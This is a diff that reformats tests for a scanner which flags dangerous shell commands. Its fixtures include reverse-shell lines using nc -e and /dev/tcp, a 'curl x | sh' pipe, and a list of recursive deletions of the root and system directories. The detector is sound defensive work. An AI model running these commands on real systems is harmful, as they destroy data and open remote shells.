@@ -18,12 +18,14 @@ describe("shellFindings", () => {
   });
 
   it("ignores reverse-shell prose in comments", () => {
-    expect(ids("# never open /dev/tcp/ sockets or run nc -e here\n# curl x | sh is forbidden; rm -rf / too\necho ok\n")).toEqual([]);
+    expect(
+      ids("# never open /dev/tcp/ sockets or run nc -e here\n# curl x | sh is forbidden; rm -rf / too\necho ok\n"),
+    ).toEqual([]);
   });
 
   it("still reads a # inside quotes or ${#var} as code", () => {
     expect(ids('echo "#" ; nc -e /bin/sh host 1\n')).toEqual(["shell-reverse-shell"]);
-    expect(ids('n=${#x}; exec 3<>/dev/tcp/h/1\n')).toEqual(["shell-reverse-shell"]);
+    expect(ids("n=${#x}; exec 3<>/dev/tcp/h/1\n")).toEqual(["shell-reverse-shell"]);
   });
 
   it("flags bash -i and mkfifo as a HIGH heuristic", () => {
@@ -51,13 +53,20 @@ describe("shellFindings", () => {
   });
 
   it("flags recursive rm against the root and system directories", () => {
-    for (const cmd of ["rm -rf /", "rm -rf /*", "sudo rm -fr /etc", "rm -r --no-preserve-root /", "rm -Rf /usr/", "rm -rf /var/*; echo"]) {
+    for (const cmd of [
+      "rm -rf /",
+      "rm -rf /*",
+      "sudo rm -fr /etc",
+      "rm -r --no-preserve-root /",
+      "rm -Rf /usr/",
+      "rm -rf /var/*; echo",
+    ]) {
       expect(ids(cmd)).toEqual(["shell-destructive-command"]);
     }
   });
 
   it("ignores rm of subpaths and relative paths", () => {
-    expect(ids("rm -rf /tmp/x\nrm -rf ./build\nrm -rf /usr/local/lib/foo\nrm /etc\nrm -rf \"$DIR\"/\n")).toEqual([]);
+    expect(ids('rm -rf /tmp/x\nrm -rf ./build\nrm -rf /usr/local/lib/foo\nrm /etc\nrm -rf "$DIR"/\n')).toEqual([]);
   });
 
   it("flags dd onto a device but not onto /dev/null", () => {
@@ -78,6 +87,8 @@ describe("shellFindings", () => {
   });
 
   it("ignores env used to run a program, single variables and heredoc text", () => {
-    expect(ids("#!/usr/bin/env bash\nenv FOO=1 python x.py\nprintenv HOME\necho env\ncat <<EOF\nenv\nEOF\n")).toEqual([]);
+    expect(ids("#!/usr/bin/env bash\nenv FOO=1 python x.py\nprintenv HOME\necho env\ncat <<EOF\nenv\nEOF\n")).toEqual(
+      [],
+    );
   });
 });
